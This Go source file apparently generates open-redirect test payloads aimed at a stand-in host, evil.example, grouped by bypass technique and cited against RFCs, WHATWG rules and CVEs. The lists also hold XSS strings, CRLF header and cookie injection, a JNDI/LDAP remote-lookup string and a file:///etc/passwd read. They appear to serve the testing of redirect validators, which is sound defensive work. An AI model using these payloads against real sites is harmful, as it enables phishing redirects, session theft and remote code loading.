package attack

import "strings"

// evil is where the payloads of Redirects lead.
const evil = "evil.example"

// A lure writes addresses that lead away from host.
type lure func(host string) []string

// lures are the families of Redirects. Each names where it comes from.
var lures = []lure{
	inPlain,
	withoutScheme,   // RFC 3986 §4.2; CWE-601
	bySlashes,       // WHATWG URL §4.4: "\" is "/", more slashes are as good as two; CVE-2025-54576's siblings
	byDroppedBytes,  // WHATWG URL §4.4: tabs and line breaks are removed, C0 and blanks trimmed
	byEncodedBytes,  // a script behind that decodes the target before it redirects
	byPath,          // dot segments and parameters that leave "//" behind
	byScheme,        // javascript:, data: and what else is no place
	byUserinfo,      // host as a user name; oauth2-proxy CVE-2020-5233, CVE-2021-21291
	byLikeness,      // host as a prefix or suffix: lists of allowed domains (caddy-security CVE-2024-21497)
	byForeignDigits, // IPv4 as one number, IPv6, IDN dots and slashes (UTS #46)
	bySplitting,     // CWE-113: a line break in Location
	byLength,
}

// Redirects returns what to try as a return path on a site that browsers see
// at host ("shop.example"). None may lead a browser to another origin. Most
// would where they are followed as they are, the rest where a script decodes
// or joins them. They hold any bytes, NUL and line breaks among them.
func Redirects(host string) []string {
	var all []string
	seen := map[string]bool{}
	for _, l := range lures {
		for _, payload := range l(host) {
			if !seen[payload] {
				seen[payload] = true
				all = append(all, payload)
			}
		}
	}
	return all
}

func inPlain(host string) []string {
	return []string{
		"http://" + evil, "https://" + evil, "https://" + evil + "/", "HTTPS://" + strings.ToUpper(evil), "https://" + evil + ":443/x", "https://www." + evil + "/" + host,
		"https://" + evil + "/?" + host, "https://" + evil + "/#" + host, "ftp://" + evil + "/", "ws://" + evil + "/", "wss://" + evil + "/", "http://" + host + ":8080/",
		"https://" + host + ":444/", "http:" + evil, "https:" + evil, "https:/" + evil, "https:///" + evil, "https:////" + evil, `https:\\` + evil, `https:\` + evil, `https:/\` + evil, `http:\/\/` + evil,
		"http:/" + "/" + evil + "%2f..", evil, "www." + evil, evil + "/" + host, "hTtPs:" + evil, "http:////" + evil, ":" + "//" + evil, "://" + evil, "?//" + evil + "/../..",
	}
}

func withoutScheme(host string) []string {
	return []string{
		"//" + evil, "//" + evil + "/", "//" + evil + ":80", "//" + evil + "/%2f..", "//" + evil + "/..", "//" + evil + "/..;/css", "//" + evil + "/" + host, "//" + evil + "?" + host, "//" + evil + "#" + host,
		"//" + evil + "%2f@" + host, "//www." + evil + "/x.html", "//" + evil + "//", "//" + evil + "/login?next=/", "//" + strings.ToUpper(evil), "//" + evil + ".", "//" + evil + "%00", "//" + evil + "%20", "//%65vil.example",
		"//evil%2eexample", "//evil%252eexample", "//" + evil + ":", "//" + evil + ":443/account", "//", "///", "//.", "//..", "//?" + evil, "//#" + evil,
	}
}

func bySlashes(string) []string {
	var all []string
	for _, lead := range []string{
		`/\`, `\/`, `\\`, `\`, "///", "////", "/////", "//////", `/\/`, `\/\`, `//\`, `\//`, `/\\`, `/\\\`, `\\\`, `\\\\`, `///\;@`, `//\/`, `//;@`, `//\\`, `/\/\/`, `\/\/`, `/\;`, `\;/`,
	} {
		all = append(all, lead+evil, lead+evil+"/%2e%2e", lead+"x@"+evil)
	}
	return all
}

func byDroppedBytes(string) []string {
	var all []string
	for _, b := range []string{"\t", "\n", "\r", "\r\n", "\x00", "\x01", "\x0b", "\x0c", "\x1f", " ", "\x7f", "\u00a0", "\u2028", "\u3000", "\u200b", "\ufeff", "\u00ad"} {
		all = append(all, b+"//"+evil, "/"+b+"/"+evil, "/"+b+`\`+evil, b+"https://"+evil, "/"+b+"//"+evil)
	}
	return append(all, "ht\ttps://"+evil, "https:\n//"+evil, "java\nscript:alert(1)", "/\t\t/"+evil, "/\t/\t/"+evil, "\t/\t\\"+evil, "//\tevil.example", "/"+"/ev\til.example", " \t\n//"+evil, "//"+evil+"\t", "/ //"+evil)
}

func byEncodedBytes(string) []string {
	var all []string
	for _, lead := range []string{
		"%2f", "%2F", "%2f%2f", "%5c", "%5C", "%2f%5c", "%5c%2f", "%5c%5c", "%09/", "%0a/", "%0d/", "%0d%0a/", "%00/", "%0b/", "%20/", "%20//", "+/", "%09%2f", "%0a%2f", "%c2%a0/",
		"%252f", "%255c", "%252f%252f", "%2509/", "%2509%252f", "%250a%252f", "%2500/", "%2520/", "%25252f", "%25255c", "%25252f%25252f", "%2525252f", "%2509%2f",
		"%c0%af", "%e0%80%af", "%25c0%25af", "%u002f", "%25u002f", "%u2215", "%ef%bc%8f", "%ef%bc%bc", "%e2%88%95", "%e2%81%84", "%25ef%25bc%258f", "%e2%80%8b/", "%c2%ad/", "%ef%bb%bf/", "%e3%80%80/",
	} {
		all = append(all, "/"+lead+evil)
	}
	return append(all,
		"%2f%2f"+evil, "%2f"+evil, "%5c%5c"+evil, "%68ttps://"+evil, "https%3a//"+evil, "https%3a%2f%2f"+evil, "%252f%252f"+evil, "%09//"+evil, "%0d%0a//"+evil, "%20//"+evil,
		"/%68%74%74%70%73%3a%2f%2fevil.example/%25252f", "/%zz//"+evil, "/%", "/%2", "%", "/%%32%66"+evil, "/%%32%66%%32%66"+evil)
}

func byPath(string) []string {
	var all []string
	for _, lead := range []string{
		"/./", "/.//", "/../", "/..//", "/x/..//", "/x/../", "/././/", "/../..//", "/%2e//", "/%2e%2e//", "/%2e/%2f", "/.%2f/", "/x/%2e%2e//", "/x/%2e%2e/%2f", "/x/..%2f%2f", "/%2e%2e%2f/", "/%252e%252e//", "/a/%252e%252e//",
		"/;//", "/;/", "/;x=1/", "/;x/;/", "/.;//", "/x/..;//", "/%3b/", "/%3b//", "/x/%2e%2e;/%2f", "/.;/;/", "/...//", "/ /", "/%20./%20/", "/.%00//", "/x/%5c../", "/x/..%5c%5c", `/x/..\\`, `/.\`, `/./\`, `/..\\`, "..//", ".//", "./", "../", "..%2f%2f", "/x//../..//",
	} {
		all = append(all, lead+"/"+evil)
	}
	return append(all, "/.//"+evil+"/../x", "/:80/../..//"+evil, "/login/..//"+evil, "/index.php/..//"+evil, "/@"+evil+"/..//"+evil, "/?/..//"+"\\"+evil)
}

func byScheme(host string) []string {
	return []string{
		"javascript:alert(1)", "JavaScript:alert(1)", "JAVASCRIPT:alert(document.cookie)", "javascript://" + host + "/%0aalert(1)", "javascript://%250aalert(1)", "java\tscript:alert(1)", "java\x00script:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
		"javascript&colon;alert(1)", "javascript%3aalert(1)", "&#106;avascript:alert(1)", `\x6aavascript:alert(1)`, `\u006aavascript:alert(1)`, "javas%09cript:alert(1)", "/javascript:alert(1)//\n", "//javascript:alert(1)", "\njavascript:alert(1)", "javascript\t:alert(1)", "jaVAscript\r:alert(1)",
		"data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:,x", "vbscript:msgbox(1)", "file:///etc/passwd", `file:\\evil.example\x`, "blob:https://" + host + "/1", "about:blank", "mailto:a@evil.example", "tel:1", "view-source:https://" + evil, "filesystem:https://" + host + "/x",
		"feed:https://" + evil, "intent://" + evil + "#Intent;scheme=https;end", "jar:https://" + evil + "!/", "x:y", "gopher://" + evil, "urn:x", "//javascript:", "ms-word:ofe|u|https://" + evil, "shop://" + evil,
	}
}

func byUserinfo(host string) []string {
	return []string{
		"https://" + host + "@" + evil, "//" + host + "@" + evil, "//" + host + ":443@" + evil + "/", "https://" + host + ":x@" + evil, "//x@" + evil, "//@" + evil, "//:@" + evil, "//" + host + "%40" + evil, "https://" + host + "%2f@" + evil, "https://" + host + "%23@" + evil, "https://" + host + "%3f@" + evil,
		`//` + host + `\@` + evil, `https://` + host + `\@` + evil, `//` + evil + `\@` + host, "//" + evil + "#@" + host, "//" + evil + "?@" + host, "//" + evil + "/@" + host, "//a@b@" + evil, "//" + host + "@" + host + "@" + evil, "https://@" + evil, `/\` + host + `@` + evil, "///" + host + "@" + evil, "//" + host + "&@" + evil + "#@" + host, "//" + host + ";@" + evil, "@" + evil, host + "@" + evil,
	}
}

func byLikeness(host string) []string {
	name, _, _ := strings.Cut(host, ".")
	return []string{
		"https://" + host + "." + evil, "//" + host + "." + evil, "https://evil-" + host, "//evil" + host, "//" + name + "." + evil, "//" + host + "evil.example", "//" + host + ".", "//" + host + "%2e" + evil, "//" + host + "%00." + evil, "//" + evil + "%00." + host, "//" + evil + "%23." + host, "//" + evil + "%3f." + host, "//" + evil + "%5c." + host, "//" + evil + "%2f." + host, "//" + evil + "%252f." + host,
		"//" + evil + "?." + host, "//" + evil + "#." + host, "//" + evil + "/." + host, `//` + evil + `\.` + host, "https://" + evil + "/https://" + host, "//" + evil + "//" + host, "https://" + evil + "?https://" + host + "/", "." + evil, "/" + "/." + evil, "//" + name + "\u200b." + evil, "//" + strings.Replace(host, "o", "\u043e", 1), "//" + strings.Replace(host, "s", "\u017f", 1) + "." + evil, "//xn--shp-cna.example", "//sub." + host, "https://" + host + "\u2024" + evil,
	}
}

func byForeignDigits(string) []string {
	return []string{
		"//127.0.0.1", "//2130706433", "//0x7f000001", "//0177.0.0.1", "//127.1", "//0", "//3232235777", "//[::1]", "//[::1]:8080/", "//[::ffff:7f00:1]", "//[::", "//[", "//]", "//[evil.example]", "//[::1]@" + evil, "//%5b::1%5d", "https://[::1%25eth0]/", "//0x7f.1",
		"//evil\u3002example", "//evil\uff0eexample", "//evil\uff61example", "//\uff45\uff56\uff49\uff4c.example", "//\u24d4\u24e5\u24d8\u24db.example", "//ev\u00adil.example", "//ev\u200bil.example", "//evil.example\uff0f" + "x", "/\uff0fevil.example", "\uff0f\uff0fevil.example", "/\u2215evil.example", "\u2044\u2044evil.example", "/\u29f8evil.example", "/\uff3cevil.example", "https:\u2215\u2215evil.example", "https\uff1a//evil.example", "\u3031evil.example", "//\u65e5\u672c.example", "//xn--evil-0ra.example", "/\u00a5evil.example", "/\xc0\xafevil.example", "/\xe0\x80\xafevil.example", "/\xff/evil.example", "/\xa0/evil.example", "/\u2028/evil.example",
	}
}

func bySplitting(string) []string {
	var all []string
	for _, br := range []string{"\r\n", "\n", "\r", "%0d%0a", "%0a", "%0d", "%250d%250a", "%25250a", "%e5%98%8a%e5%98%8d", "\u560a\u560d", "%u000d%u000a", "\\r\\n", "\u0085", "\u2028"} {
		all = append(all, "/"+br+"Location:%20https://"+evil, "/"+br+br+"<script>alert(1)</script>", "/account"+br+"Set-Cookie:%20a=b")
	}
	return append(all, "/ HTTP/1.1\r\nHost: "+evil+"\r\n\r\n", "/\"><script>alert(1)</script>", "/'onmouseover='alert(1)", "/<svg/onload=alert(1)>//"+evil, "<//"+evil, "\"//"+evil, "'//"+evil, "/{http.request.header.X-Evil}", "{http.request.uri}//"+evil, "${jndi:ldap://"+evil+"/x}", "[//"+evil+"]", "*", "", "#//"+evil)
}

func byLength(string) []string {
	return []string{
		"//" + evil + "/" + strings.Repeat("a", 4<<10), "/" + strings.Repeat("/", 2<<10) + evil, "/" + strings.Repeat("../", 600) + "/" + evil, "/" + strings.Repeat("%2e%2e/", 300) + "/" + evil, "/" + strings.Repeat(";/", 900) + "/" + evil, "/" + strings.Repeat("a", 8<<10), "/" + strings.Repeat("%25", 300) + "2f" + evil, "//" + strings.Repeat("a.", 900) + evil, strings.Repeat(" ", 2<<10) + "//" + evil, "/" + strings.Repeat("\t", 1000) + "/" + evil,
	}
}
